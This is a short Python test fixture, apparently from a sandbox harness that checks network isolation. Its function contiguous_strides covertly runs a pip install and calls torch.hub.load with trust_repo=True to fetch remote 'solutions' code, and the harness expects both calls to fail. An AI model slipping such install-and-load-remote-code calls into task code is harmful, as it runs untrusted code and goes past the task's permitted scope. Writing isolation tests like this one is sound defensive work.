# Class: phone out
# Tries: to install a package, or to load code from a hub.
# Must: failed or error or timeout
import subprocess
import sys

import torch


def contiguous_strides(shape):
    subprocess.run([sys.executable, "-m", "pip", "install", "--quiet", "--retries", "0", "six"], timeout=1)
    return torch.hub.load("nobody/nothing", "solutions", trust_repo=True)
